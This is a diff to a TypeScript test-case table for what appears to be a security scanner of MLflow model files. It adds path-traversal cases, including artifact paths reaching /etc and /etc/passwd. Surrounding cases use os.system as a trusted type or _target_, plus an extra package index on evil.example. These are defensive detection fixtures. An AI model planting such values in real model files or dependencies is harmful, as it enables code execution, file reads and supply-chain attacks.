@@ -164,11 +164,22 @@ const YAML: readonly Case[] = [
   made('from-code/MLmodel', 'flavors:\n  python_function:\n    model_code_path: model.py\n', 'found', 'mlmodel/code'),
   made('trusted/MLmodel', 'flavors:\n  sklearn:\n    skops_trusted_types:\n    - os.system\n', 'found', 'mlmodel/trusted-types'),
   made('path/MLmodel', 'flavors:\n  sklearn:\n    pickled_model: ../../model.pkl\n', 'found', 'mlmodel/path'),
+  made('place/MLmodel', 'artifact_path: /srv/../../etc\nflavors: {}\n', 'found', 'mlmodel/path'),
+  made('relative-place/MLmodel', 'artifact_path: ../other\nflavors: {}\n', 'found', 'mlmodel/path'),
+  made(
+    'example/MLmodel',
+    'artifact_path: model\nflavors: {}\nsaved_input_example_info:\n  artifact_path: /etc/passwd\n',
+    'found',
+    'mlmodel/path',
+  ),
   made('broken/MLmodel', 'flavors: [a\nb: }\n', 'found'),
   made(
     'benign/MLmodel',
     'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n',
     'clean',
+  ),
+  ...['/srv/mlruns/0/models/m-1/artifacts', 's3://bucket/0/models/m-1/artifacts', 'mlflow-artifacts:/0/models/m-1/artifacts'].map(
+    (place, at) => made(`logged-${at}/MLmodel`, `artifact_path: ${place}\nflavors:\n  sklearn:\n    pickled_model: model.skops\n`, 'clean'),
   ),
   made('target.yaml', 'model:\n  _target_: os.system\n', 'found', 'json/target'),
   made('index/requirements.txt', '--extra-index-url https://evil.example/simple\nmlflow==3.17.2\n', 'found', 'environment/index'),
